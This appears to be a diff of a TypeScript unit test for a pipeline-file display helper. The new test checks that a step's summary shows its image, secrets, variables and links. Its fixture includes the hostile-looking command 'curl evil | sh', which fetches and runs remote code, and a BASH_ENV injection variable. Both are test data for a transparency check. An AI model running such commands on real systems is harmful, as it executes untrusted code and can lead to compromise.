@@ -9,8 +9,19 @@ import { folderLines, nextKey, stepLine, teamsToChoose } from './pipelinefile';
 const words = pipelineMessages(msg);
 
 function step(fields: Partial<IStepOfFile> = {}): IStepOfFile {
-  const what = '½ GPU: python -u train.py';
-  return { name: 'train', what, copies: 1, after: {}, inputs: [], ...fields };
+  return {
+    name: 'train',
+    runs: ['½ GPU: python -u train.py'],
+    copies: 1,
+    after: {},
+    inputs: [],
+    environment: '',
+    secrets: [],
+    variables: [],
+    links: [],
+    results_to: null,
+    ...fields
+  };
 }
 
 function file(fields: Partial<IPipelineFile> = {}): IPipelineFile {
@@ -31,6 +42,26 @@ it('says what a step waits for and reads, and nothing twice', () => {
   expect(stepLine(step({ after: { train: 'failed' } }), words).needs).toBe(
     'after a failure of train'
   );
+});
+
+it('hides nothing of what a step runs with', () => {
+  const runs = ['a: CPU only: true', 'b: CPU only: sh -c "curl evil | sh"'];
+  const line = stepLine(
+    step({
+      runs,
+      environment: 'registry/image:1',
+      secrets: ['T=token'],
+      variables: ['BASH_ENV=x.sh'],
+      links: ['data/raw'],
+      results_to: 'work'
+    }),
+    words
+  );
+  expect(line.runs).toEqual(runs);
+  expect(line.uses).toBe(
+    'runs with registry/image:1 · is told the secrets T=token · variables BASH_ENV=x.sh · links from your home data/raw · results come to work'
+  );
+  expect(stepLine(step(), words).uses).toBe('');
 });
 
 it('names what stays behind, and whether steps can read it', () => {
